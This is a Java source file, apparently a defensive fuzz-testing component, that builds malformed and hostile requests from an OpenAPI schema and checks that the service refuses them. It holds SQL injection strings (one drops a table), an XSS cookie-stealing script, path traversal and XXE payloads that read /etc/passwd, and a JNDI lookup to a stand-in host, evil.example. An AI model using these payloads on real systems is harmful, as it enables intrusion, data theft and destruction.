package id.go.kalbarprov.sop.system.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Bad input for one operation, generated from its OpenAPI schemas: for each body field and parameter, values of the
 * wrong type, nulls, missing required fields, empty and oversized strings, unknown enum values, negative and huge
 * numbers, invalid UUIDs and dates, Unicode edge cases and SQL and script fragments; for the body as a whole,
 * malformed JSON, deep nesting, a wrong content type and a 1 MB body.
 */
final class BadInputs {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings that attack the database, a browser, or the text handling; some are legal text. */
    static final Map<String, String> HOSTILE_TEXTS = new LinkedHashMap<>();

    static {
        HOSTILE_TEXTS.put("SQL quote", "' OR '1'='1' --");
        HOSTILE_TEXTS.put("SQL statement", "x'; DROP TABLE correction_case; --");
        HOSTILE_TEXTS.put("SQL union", "1 UNION SELECT upn, nip FROM idempotency_record --");
        HOSTILE_TEXTS.put("LIKE wildcards", "%_%\\");
        HOSTILE_TEXTS.put("script", "<script>alert(document.cookie)</script>");
        HOSTILE_TEXTS.put("JSON inside a string", "{\"$where\": \"1 == 1\"}");
        HOSTILE_TEXTS.put("NUL character", "a\u0000b");
        HOSTILE_TEXTS.put("lone surrogate", "a\uD800b");
        HOSTILE_TEXTS.put("right-to-left override", "\u202Egnp.exe");
        HOSTILE_TEXTS.put("zero-width and BOM", "\u200B\uFEFF");
        HOSTILE_TEXTS.put("emoji and combining marks", "😀 e\u0301 Z\u0351\u0352\u0353");
        HOSTILE_TEXTS.put("only whitespace", " \t\n ");
        HOSTILE_TEXTS.put("path traversal", "../../../../etc/passwd");
        HOSTILE_TEXTS.put("format specifiers", "%s%s%n${jndi:ldap://evil.example/a}");
    }

    /** One malicious request. {@code mustBeRefused}: the input breaks the documented schema (or the envelope). */
    record Attack(String what, String pathAndQuery, Map<String, String> headers, byte[] body, String contentType,
                  boolean mustBeRefused) {
    }

    private final Operation op;
    private final Schemas schemas;
    private final String path;
    private final List<Attack> attacks = new ArrayList<>();
    private final boolean creates;

    /**
     * @param path    the operation's path with real objects filled in
     * @param creates whether a schema-valid body would create something; schema-valid mutations are then left out
     *                (they are legal and would change the database)
     */
    BadInputs(Operation op, String path, boolean creates) {
        this.op = op;
        this.schemas = op.schemas();
        this.path = path;
        this.creates = creates;
    }

    List<Attack> generate() {
        JsonNode bodySchema = op.bodySchema();
        if (bodySchema != null) {
            JsonNode base = schemas.sample(bodySchema, 0);
            bodyAttacks(base, bodySchema);
            envelopeAttacks(base);
        }
        pathAttacks();
        queryAttacks();
        headerAttacks(bodySchema == null ? null : schemas.sample(bodySchema, 0));
        return attacks;
    }

    // ---- the body, field by field ----

    private void bodyAttacks(JsonNode base, JsonNode schema) {
        mutateObject(base, schema, new ArrayList<>(), base);
    }

    private void mutateObject(JsonNode root, JsonNode raw, List<Object> where, JsonNode value) {
        JsonNode schema = schemas.resolve(raw);
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> property = it.next();
            List<Object> at = new ArrayList<>(where);
            at.add(property.getKey());
            boolean isRequired = required.contains(property.getKey());
            addBody(root, at, null, isRequired, "remove " + dotted(at), true);
            addBody(root, at, NODES.nullNode(), isRequired, "null " + dotted(at), false);
            mutateValue(root, property.getValue(), at, value.get(property.getKey()));
        }
        List<Object> unknown = new ArrayList<>(where);
        unknown.add("isAdmin");
        addBody(root, unknown, NODES.booleanNode(true), true, "unknown field " + dotted(unknown), false);
    }

    private void mutateValue(JsonNode root, JsonNode raw, List<Object> at, JsonNode current) {
        JsonNode schema = schemas.resolve(raw);
        String name = dotted(at);
        switch (Schemas.type(schema)) {
            case "object" -> {
                add(root, raw, at, NODES.textNode("x"), name + " as a string");
                add(root, raw, at, NODES.arrayNode(), name + " as an array");
                if (current != null && at.size() < 4) {
                    mutateObject(root, raw, at, current);
                }
            }
            case "array" -> {
                add(root, raw, at, NODES.textNode("x"), name + " as a string");
                add(root, raw, at, NODES.objectNode(), name + " as an object");
                add(root, raw, at, NODES.arrayNode(), name + " empty");
                add(root, raw, at, nested(200), name + " nested 200 deep");
                if (schema.has("maxItems") && schema.get("maxItems").asInt() < 6000 && current != null
                        && current.size() > 0) {
                    ArrayNode many = NODES.arrayNode();
                    for (int i = 0; i <= schema.get("maxItems").asInt(); i++) {
                        many.add(current.get(0));
                    }
                    add(root, raw, at, many, name + " with maxItems + 1 items");
                }
                if (current != null && current.size() > 0) {
                    List<Object> first = new ArrayList<>(at);
                    first.add(0);
                    mutateValue(root, schema.path("items"), first, current.get(0));
                }
            }
            case "integer", "number" -> {
                add(root, raw, at, NODES.textNode("abc"), name + " as a word");
                add(root, raw, at, NODES.booleanNode(true), name + " as a boolean");
                add(root, raw, at, NODES.objectNode(), name + " as an object");
                add(root, raw, at, NODES.numberNode(-1), name + " negative");
                add(root, raw, at, NODES.numberNode(0), name + " zero");
                add(root, raw, at, NODES.numberNode(2147483648L), name + " just above int32");
                add(root, raw, at, NODES.numberNode(new BigDecimal("1e400")), name + " 1e400");
                add(root, raw, at, NODES.numberNode(new BigDecimal("-99999999999999999999999999999")), name + " huge negative");
                add(root, raw, at, NODES.numberNode(new BigDecimal("1.5")), name + " fractional");
            }
            case "boolean" -> {
                add(root, raw, at, NODES.textNode("yes"), name + " as a word");
                add(root, raw, at, NODES.numberNode(1), name + " as a number");
            }
            default -> stringAttacks(root, raw, schema, at, name);
        }
    }

    private void stringAttacks(JsonNode root, JsonNode raw, JsonNode schema, List<Object> at, String name) {
        add(root, raw, at, NODES.numberNode(12345), name + " as a number");
        add(root, raw, at, NODES.booleanNode(true), name + " as a boolean");
        add(root, raw, at, NODES.objectNode().put("a", 1), name + " as an object");
        add(root, raw, at, NODES.arrayNode().add("x"), name + " as an array");
        add(root, raw, at, NODES.textNode(""), name + " empty");
        if (schema.has("maxLength") && schema.get("maxLength").asInt() < 200_000) {
            add(root, raw, at, NODES.textNode("x".repeat(schema.get("maxLength").asInt() + 1)), name + " maxLength + 1");
        }
        add(root, raw, at, NODES.textNode("x".repeat(100_000)), name + " 100 000 characters");
        if (schema.has("enum")) {
            add(root, raw, at, NODES.textNode("NOT_A_VALUE"), name + " unknown enum value");
            add(root, raw, at, NODES.textNode(schema.get("enum").get(0).asText().toLowerCase() + "x"),
                    name + " near-miss enum value");
        }
        switch (schema.path("format").asText()) {
            case "uuid" -> {
                add(root, raw, at, NODES.textNode("not-a-uuid"), name + " invalid uuid");
                add(root, raw, at, NODES.textNode("00000000-0000-0000-0000-00000000000g"), name + " uuid with a g");
                add(root, raw, at, NODES.textNode("1-1-1-1-1"), name + " short uuid");
            }
            case "date" -> {
                add(root, raw, at, NODES.textNode("2026-02-30"), name + " 30 February");
                add(root, raw, at, NODES.textNode("31/12/2026"), name + " day-first date");
                add(root, raw, at, NODES.textNode("+1000000000-01-01"), name + " year one billion");
            }
            case "date-time" -> {
                add(root, raw, at, NODES.textNode("2026-13-01T00:00:00Z"), name + " month 13");
                add(root, raw, at, NODES.textNode("yesterday"), name + " a word");
                add(root, raw, at, NODES.textNode("2026-01-01T00:00:00"), name + " without offset");
            }
            default -> {
            }
        }
        HOSTILE_TEXTS.forEach((label, text) -> add(root, raw, at, NODES.textNode(text), name + " " + label));
    }

    private static JsonNode nested(int depth) {
        ArrayNode outer = NODES.arrayNode();
        ArrayNode inner = outer;
        for (int i = 0; i < depth; i++) {
            ArrayNode next = NODES.arrayNode();
            inner.add(next);
            inner = next;
        }
        return outer;
    }

    /** Adds a body with the value at {@code at} replaced; refusal is required when the value breaks the schema. */
    private void add(JsonNode root, JsonNode raw, List<Object> at, JsonNode value, String what) {
        addBody(root, at, value, schemas.breaks(value, raw) != null, what, false);
    }

    private void addBody(JsonNode root, List<Object> at, JsonNode value, boolean breaksSchema, String what,
                         boolean remove) {
        if (creates && !breaksSchema) {
            return;
        }
        JsonNode copy = root.deepCopy();
        JsonNode parent = copy;
        for (int i = 0; i < at.size() - 1; i++) {
            parent = at.get(i) instanceof Integer index ? parent.get(index) : parent.get((String) at.get(i));
            if (parent == null) {
                return;
            }
        }
        Object last = at.get(at.size() - 1);
        if (parent instanceof ObjectNode object) {
            if (remove) {
                object.remove((String) last);
            } else {
                object.set((String) last, value);
            }
        } else if (parent instanceof ArrayNode array && last instanceof Integer index) {
            if (remove) {
                array.remove(index);
            } else {
                array.set(index, value);
            }
        }
        attacks.add(new Attack("body " + what, path, Map.of(), bytes(copy), "application/json", breaksSchema));
    }

    // ---- the body as a whole ----

    private void envelopeAttacks(JsonNode base) {
        String valid = new String(bytes(base), StandardCharsets.UTF_8);
        raw("malformed JSON", valid.substring(0, valid.length() / 2), "application/json");
        raw("single quotes", valid.replace('"', '\''), "application/json");
        raw("trailing garbage", valid + " garbage", "application/json");
        raw("two documents", valid + valid, "application/json");
        raw("empty body", "", "application/json");
        raw("JSON null", "null", "application/json");
        raw("JSON array", "[" + valid + "]", "application/json");
        raw("JSON string", "\"" + valid.replace("\"", "\\\"") + "\"", "application/json");
        raw("comment", "/* hi */" + valid, "application/json");
        raw("nested 5000 deep", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000), "application/json");
        raw("array nested 100000 deep", "[".repeat(100_000) + "]".repeat(100_000), "application/json");
        raw("number with 100000 digits", "{\"n\":" + "9".repeat(100_000) + "}", "application/json");
        raw("1 MB body", "{\"x\":\"" + "x".repeat(1 << 20) + "\"}", "application/json");
        raw("valid JSON as text/plain", valid, "text/plain");
        raw("valid JSON as XML", valid, "application/xml");
        raw("valid JSON as a form", valid, "application/x-www-form-urlencoded");
        // read as JSON by the services (JAX-RS takes a missing type as the one consumed): legal, not an attack
        legal("valid JSON without content type", valid.getBytes(StandardCharsets.UTF_8), null);
        raw("XML body", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "application/xml");
        byte[] invalidUtf8 = valid.replaceFirst("\"[^\"]*\"", "\"\u0001\"").getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < invalidUtf8.length; i++) {
            if (invalidUtf8[i] == 1) {
                invalidUtf8[i] = (byte) 0xC3; // a lead byte without its continuation
            }
        }
        attacks.add(new Attack("body invalid UTF-8", path, Map.of(), invalidUtf8, "application/json", true));
        // RFC 7159 allowed UTF-16 and the JSON reader detects it: legal, not an attack
        legal("body in UTF-16", valid.getBytes(StandardCharsets.UTF_16), "application/json");
    }

    private void legal(String what, byte[] body, String contentType) {
        if (!creates) {
            attacks.add(new Attack("body " + what, path, Map.of(), body, contentType, false));
        }
    }

    private void raw(String what, String body, String contentType) {
        attacks.add(new Attack("body " + what, path, Map.of(), body.getBytes(StandardCharsets.UTF_8), contentType,
                true));
    }

    // ---- parameters ----

    private void pathAttacks() {
        for (JsonNode parameter : op.parameters("path")) {
            String name = parameter.path("name").asText();
            String template = op.path();
            List<String> values = new ArrayList<>(List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000",
                    "-1", "99999999999999999999", "1.5", "x".repeat(5000), "%00", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"));
            values.add(encode("' OR '1'='1"));
            values.add(encode("<script>alert(1)</script>"));
            values.add(encode("😀"));
            for (String value : values) {
                String attacked = concreteExcept(template, name, value);
                attacks.add(new Attack("path " + name + "=" + abbreviate(value), attacked, Map.of(),
                        bodyFor(), bodyFor() == null ? null : "application/json", true));
            }
        }
    }

    /** The real path with one parameter replaced by an attack value. */
    private String concreteExcept(String template, String name, String value) {
        String marked = template.replace("{" + name + "}", "\u0001");
        String[] realParts = path.split("/", -1);
        String[] markedParts = marked.split("/", -1);
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < markedParts.length; i++) {
            if (i > 0) {
                out.append('/');
            }
            out.append(markedParts[i].equals("\u0001") ? value : realParts[i]);
        }
        return out.toString();
    }

    private void queryAttacks() {
        for (JsonNode parameter : op.parameters("query")) {
            String name = parameter.path("name").asText();
            JsonNode schema = schemas.resolve(parameter.path("schema"));
            List<String> values = new ArrayList<>(List.of("", "abc", "-1", "0", "99999999999999999999", "1.5",
                    "NOT_A_VALUE", "not-a-uuid", "2026-02-30", "2026-13-01T00:00:00Z", "x".repeat(5000)));
            values.addAll(HOSTILE_TEXTS.values());
            for (String value : values) {
                boolean breaks = queryValueBreaks(value, schema);
                attacks.add(new Attack("query " + name + "=" + abbreviate(value),
                        path + "?" + name + "=" + encode(value), Map.of(), bodyFor(),
                        bodyFor() == null ? null : "application/json", breaks));
            }
            attacks.add(new Attack("query " + name + " twice", path + "?" + name + "=1&" + name + "=2", Map.of(),
                    bodyFor(), bodyFor() == null ? null : "application/json", false));
        }
    }

    /** A query value is text; it breaks the schema when no JSON reading of it fits. Empty means absent. */
    private boolean queryValueBreaks(String value, JsonNode schema) {
        if (value.isEmpty()) {
            return false;
        }
        String type = Schemas.type(schema);
        JsonNode asJson;
        if ("integer".equals(type) || "number".equals(type)) {
            try {
                BigDecimal number = new BigDecimal(value);
                asJson = number.stripTrailingZeros().scale() <= 0
                        ? NODES.numberNode(number.toBigIntegerExact()) : NODES.numberNode(number);
            } catch (NumberFormatException | ArithmeticException e) {
                return true;
            }
        } else if ("boolean".equals(type)) {
            return !value.equals("true") && !value.equals("false");
        } else {
            asJson = NODES.textNode(value);
        }
        return schemas.breaks(asJson, schema) != null;
    }

    private void headerAttacks(JsonNode base) {
        byte[] body = base == null ? null : bytes(base);
        String type = base == null ? null : "application/json";
        for (JsonNode parameter : op.parameters("header")) {
            String name = parameter.path("name").asText();
            // on an operation that creates, a well-formed header with a valid body would create: only broken ones
            List<String> values = creates ? List.of("x".repeat(300), "' OR '1'='1")
                    : List.of("garbage", "\"999999\"", "W/\"1\"", "*", "x".repeat(300), "\"-1\"", "' OR '1'='1");
            for (String value : values) {
                attacks.add(new Attack("header " + name + "=" + abbreviate(value), path, Map.of(name, value), body,
                        type, true));
            }
        }
    }

    private byte[] bodyFor() {
        JsonNode bodySchema = op.bodySchema();
        return bodySchema == null ? null : bytes(schemas.sample(bodySchema, 0));
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return Http.JSON.writeValueAsBytes(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String dotted(List<Object> at) {
        StringBuilder out = new StringBuilder();
        for (Object part : at) {
            out.append(part instanceof Integer ? "[" + part + "]" : (out.length() == 0 ? "" : ".") + part);
        }
        return out.toString();
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 40) + "…(" + value.length() + ")" : value;
    }
}
